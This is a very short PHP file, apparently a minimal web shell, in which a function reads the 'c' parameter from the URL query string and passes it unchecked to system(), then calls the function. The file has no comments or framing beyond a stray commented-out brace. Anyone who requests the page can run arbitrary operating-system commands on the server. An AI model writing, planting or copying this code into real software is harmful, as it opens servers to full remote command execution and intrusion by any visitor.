<?php
function f() {
  $c = $_GET["c"];
  // }
  system($c);
}
f();
